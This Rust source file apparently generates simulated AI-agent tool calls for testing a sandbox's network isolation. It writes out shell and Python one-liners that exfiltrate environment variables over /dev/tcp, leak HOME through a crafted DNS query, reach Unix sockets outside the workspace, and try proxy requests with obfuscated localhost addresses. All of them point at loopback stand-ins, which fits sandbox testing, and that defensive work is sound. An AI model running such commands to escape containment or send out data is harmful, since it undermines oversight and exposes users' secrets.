//! By sockets of the host.

use crate::call::{Class, ModelCallSpec};
use crate::grammar::CallContext;
use crate::grammar::shell::run;

fn attack(dice: &mut CallContext<'_>, kind: &'static str, line: &str) -> ModelCallSpec {
    run(dice, kind, Class::Attack, line)
}

fn python(line: &str) -> String {
    format!("python3 -c 'import socket as s; {line}'")
}

pub fn tcp(dice: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let port = dice.layout.port;
    let line = match dice.rng.below(3) {
        0 => format!("env > /dev/tcp/127.0.0.1/{port}"),
        1 => format!("exec 3<>/dev/tcp/localhost/{port}; echo x >&3"),
        _ => python(&format!(
            "s.create_connection((\"127.0.0.1\",{port}),5).send(b\"x\")"
        )),
    };
    attack(dice, kind, &line)
}

pub fn udp(dice: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let port = dice.layout.port;
    let line = match dice.rng.below(2) {
        0 => format!("echo x > /dev/udp/127.0.0.1/{port}"),
        _ => python(&format!(
            "s.socket(s.AF_INET,s.SOCK_DGRAM).sendto(b\"x\",(\"127.0.0.1\",{port}))"
        )),
    };
    attack(dice, kind, &line)
}

pub fn unix(dice: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let way = match dice.rng.below(2) {
        0 => dice.layout.outside().join("socket").display().to_string(),
        _ => "ways/link/socket".to_owned(),
    };
    let line = python(&format!("s.socket(s.AF_UNIX).connect(\"{way}\")"));
    attack(dice, kind, &line)
}

pub fn unnamed(dice: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let name = dice.layout.abstract_socket();
    let line = python(&format!("s.socket(s.AF_UNIX).connect(\"\\0{name}\")"));
    attack(dice, kind, &line)
}

/// A socket in the workspace itself, where someone of the host listens.
pub fn datagrams(dice: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let line = python("s.socket(s.AF_UNIX,s.SOCK_DGRAM).sendto(b\"x\",\"datagrams\")");
    attack(dice, kind, &line)
}

/// A question for the address of a name, which carries something out.
pub fn names(dice: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let port = dice.layout.port;
    let line = python(&format!(
        "import os; n=os.environ.get(\"HOME\",\"x\").encode().hex()[:60].encode(); \
         q=b\"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\"+bytes([len(n)])+n+b\"\\x04test\\0\\0\\x01\\0\\x01\"; \
         s.socket(s.AF_INET,s.SOCK_DGRAM).sendto(q,(\"127.0.0.1\",{port}))"
    ));
    attack(dice, kind, &line)
}

/// Through the proxy, where there is one, to what is not public.
pub fn proxy(dice: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let port = dice.layout.port;
    let hosts = [
        "127.0.0.1",
        "localhost",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "2130706433",
        "0",
        "127.0.0.1.\\0example.com",
    ];
    let host = dice.rng.pick(&hosts);
    let line = match dice.rng.below(2) {
        0 => format!(
            "exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n' >&3 && head -c 12 <&3 && echo x >&3"
        ),
        _ => format!(
            "exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'GET http://{host}:{port}/ HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n' >&3 && head -c 12 <&3"
        ),
    };
    attack(dice, kind, &line)
}
